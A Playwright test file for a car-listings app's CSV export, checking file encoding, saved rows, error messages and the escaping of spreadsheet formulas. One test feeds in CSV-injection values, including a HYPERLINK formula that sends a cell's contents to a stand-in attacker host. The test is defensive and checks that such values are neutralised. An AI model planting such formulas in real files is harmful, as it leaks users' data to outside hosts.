import { mkdir, mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from 'playwright/test';
import { parseCsv } from '../shared/testing/parse-csv.ts';
import {
  type ListingsPage,
  expectPage,
  openListings,
  openMoreMenu,
  SAMPLE_PLATE,
  readPlates,
  SAMPLE_LISTING_COUNT,
} from './fixtures/screens/listings.ts';
import {
  expectRequests,
  loadAllSampleListings,
  searchSample,
  sharedRecordingApp,
} from './fixtures/listings.ts';
import { chooseEnvironment } from './fixtures/screens/lookup.ts';

const counted = sharedRecordingApp();
let browser: ListingsPage;
let folder: string;

test.beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'platedesk-csv-'));
});
test.afterAll(() => rm(folder, { recursive: true, force: true }));

const save = async () => (await openMoreMenu(browser.page, /^Save CSV/)).click();
const messages = () => browser.page.getByRole('status', { name: 'Messages' });

/** The file as a spreadsheet reads it: one object per row, by column name. */
async function readRows(file: string): Promise<Record<string, string>[]> {
  const bytes = await readFile(file);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString('utf8').slice(1);
  expect(text.endsWith('\r\n')).toBe(true);
  // A strict parser: it throws if a line does not end with CR LF or a quote is invalid.
  const [head = [], ...rows] = parseCsv(text);
  return rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at] ?? ''])));
}

test('the loaded listings are saved to the chosen file without a call', async () => {
  const { page } = (browser = await openListings(counted.app().page));
  await chooseEnvironment(page, 'Sample');
  browser = await openListings(page);
  await browser.filters.getByRole('button', { name: 'Search' }).click();
  await expectPage(browser, SAMPLE_LISTING_COUNT);
  await page.keyboard.press('n');
  await expectPage(browser, SAMPLE_LISTING_COUNT, 2);
  await expect(await openMoreMenu(page, /^Save CSV/)).toHaveText('Save CSV (20)');
  await page.keyboard.press('Escape');
  const file = path.join(folder, 'sample.csv');
  await counted.app().setSavePath(file);
  await save();
  await expect(messages()).toContainText('Saved sample.csv, 20 listings');
  const rows = await readRows(file);
  const all = (await loadAllSampleListings()).slice(0, 20);
  expect(rows.map((row) => row['Plate'])).toEqual(all.map(({ vrm }) => vrm));
  for (const [at, listing] of all.entries())
    expect(rows[at]).toMatchObject({
      Description: listing.description,
      'Asking price (£)': String(listing.price),
      'Mileage (miles)': String(listing.mileage),
      Dealer: listing.dealer?.name,
      'Advert text': listing.adText,
      Location: listing.location ?? '',
      Environment: 'Sample',
      Version: '3.0',
    });
  expect(await readdir(folder)).toEqual(['sample.csv']);
  await chooseEnvironment(page, 'Production');
  await expectRequests(counted, []);
});

test('text that a spreadsheet would calculate is escaped; comparables are marked', async () => {
  const record = await searchSample({});
  const [first = {}, second = {}, ...others] = record.listings ?? [];
  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
  counted.plan.override = ({ path: requestPath }) =>
    requestPath.startsWith('/similar-listings/')
      ? Response.json({
          ...record,
          listings: [
            {
              ...first,
              description: formula,
              adText: '@SUM(1,2)\r\nsecond line, with a comma and a "quote"',
              colour: '\t=1+1',
              location: '-1+1',
              fuelType: '+44 20 7946 0000',
            },
            second,
            ...others,
          ],
        })
      : undefined;
  browser = await openListings(counted.app().page, SAMPLE_PLATE);
  const { page, rows, selectedListing, filters } = browser;
  await filters.getByRole('button', { name: 'Search' }).click();
  await expectPage(browser, SAMPLE_LISTING_COUNT);
  await rows.nth(0).getByRole('button').first().click();
  await selectedListing.getByRole('button', { name: 'Mark as comparable' }).click();
  await selectedListing.getByLabel('Note').fill('=1+1');
  const file = path.join(folder, 'hostile.csv');
  await counted.app().setSavePath(file);
  await save();
  await expect(messages()).toContainText('Saved hostile.csv, 10 listings');
  const [row, next] = await readRows(file);
  expect(row).toMatchObject({
    Description: `'${formula}`,
    'Advert text': `'@SUM(1,2)\r\nsecond line, with a comma and a "quote"`,
    Colour: "'\t=1+1",
    Location: "'-1+1",
    Fuel: "'+44 20 7946 0000",
    Comparable: 'yes',
    Note: "'=1+1",
    Environment: 'Production',
  });
  expect(next).toMatchObject({ Description: second.description, Comparable: '', Note: '' });
  // On screen it is still the original text.
  await expect(selectedListing.getByRole('heading').first()).toHaveText(formula);
  await selectedListing.getByRole('button', { name: 'Copy row' }).click();
  await expect(page.getByText('Row copied')).toBeVisible();
  const copied = await counted.app().readClipboard();
  expect(copied.split('\t')[0]).toBe(`'${formula}`);
  expect(copied).not.toMatch(/[\r\n]/);
});

test('a cancelled dialog shows no message; a folder that cannot be written shows an error', async () => {
  const { page } = browser;
  const dismiss = messages().getByRole('button', { name: 'Dismiss' });
  while ((await dismiss.count()) > 0) await dismiss.first().click();
  await counted.app().setSavePath(undefined);
  await save();
  // The item is disabled during the dialog, and no message appears afterwards.
  const item = await openMoreMenu(page, /^Save CSV/);
  await expect(item).toBeEnabled();
  await item.press('Escape');
  await expect(page.getByRole('menu')).toHaveCount(0);
  await expect(messages()).toBeEmpty();

  await counted.app().setSavePath(path.join(folder, 'gone', 'a.csv'));
  await save();
  await expect(messages()).toContainText(
    'The file was not saved. That folder no longer exists. Choose another.',
  );
  await mkdir(path.join(folder, 'taken.csv', 'inside'), { recursive: true });
  await counted.app().setSavePath(path.join(folder, 'taken.csv'));
  await save();
  await expect(messages()).toContainText(
    'A folder with that name already exists. Choose another name.',
  );
  expect((await readdir(folder)).toSorted()).toEqual(['hostile.csv', 'sample.csv', 'taken.csv']);
  expect(await readPlates(browser)).toHaveLength(10);
});
